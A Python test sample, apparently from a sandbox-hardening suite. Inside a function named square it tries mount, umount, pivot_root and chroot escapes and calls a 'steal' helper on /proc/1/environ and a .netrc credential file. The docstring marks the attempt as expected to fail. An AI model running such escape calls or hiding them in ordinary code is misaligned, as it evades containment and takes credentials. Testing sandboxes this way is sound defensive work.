"""Mounts and unmounts, to see what lies below.

Gains: the file system outside
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: failed
"""

import ctypes

from burglary import steal

libc = ctypes.CDLL(None, use_errno=True)


def square(x):
    attempts = (
        libc.umount2(b"/proc", 2),
        libc.umount2(b"/tmp", 2),
        libc.mount(b"proc", b"/tmp", b"proc", 0, None),
        libc.mount(b"/", b"/tmp", None, 4096, None),
        libc.mount(None, b"/", None, 32, None),
        libc.pivot_root(b"/tmp", b"/tmp") if hasattr(libc, "pivot_root") else -1,
        libc.chroot(b"/tmp"),
    )
    steal("/proc/1/environ", "/tmp@HOME@/.netrc")
    return x if all(attempt == -1 for attempt in attempts) else x * x
